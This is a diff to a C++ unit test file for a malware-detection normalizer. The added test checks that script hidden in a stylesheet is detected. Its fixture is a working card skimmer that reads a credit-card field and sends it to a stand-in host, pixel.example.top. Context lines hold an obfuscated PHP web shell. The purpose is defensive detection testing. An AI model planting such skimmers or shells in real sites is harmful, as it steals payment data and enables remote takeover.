@@ -115,6 +115,27 @@ TEST(Normalize, PhpTagInBase64InsideALongerLiteral) {
   EXPECT_EQ(plain.layers.size(), 1u) << AllText(plain);
 }
 
+// A stylesheet carrying script in a comment, or base64 of it in a custom property, for a
+// loader to cut out and run: the script is a layer "css>js" and judged as JavaScript.
+TEST(Normalize, ScriptCarriedInAStylesheet) {
+  std::string skimmer =
+      "document.addEventListener('submit', function () {"
+      " var n = document.querySelector('[name*=cc_number]').value;"
+      " new Image().src = 'https://pixel.example.top/p.gif?d=' + btoa(n); });";
+  auto in_comment = NormalizeStylesheet(".logo { width: 10px; }\n/*" + skimmer + "*/\n.a{}");
+  ASSERT_TRUE(in_comment.has_value());
+  EXPECT_GE(Best(*in_comment), 3) << AllText(*in_comment);
+  EXPECT_EQ(in_comment->layers[0].path, "css>js");
+  auto in_property = NormalizeStylesheet(":root { --i: " + Base64(skimmer) + "; }\nbody{}");
+  ASSERT_TRUE(in_property.has_value());
+  EXPECT_GE(Best(*in_property), 3) << AllText(*in_property);
+  // Comments, fonts and data URIs of an ordinary stylesheet carry no script.
+  EXPECT_FALSE(NormalizeStylesheet("/*! Theme v2 | MIT */ .btn:hover { color: red; }\n"
+                                   "@font-face { font-family: 'Open Sans'; src: url(\"a.woff2\"); }\n"
+                                   "/* the value function of the theme's button */")
+                   .has_value());
+}
+
 TEST(Normalize, GzinflateBase64ChainAndHexEscapedPregE) {
   std::string inner = "<?php system($_GET['cmd']); ?>";
   std::string src = "<?php eval(gzinflate(base64_decode('" + Base64(Deflate(inner)) + "')));";
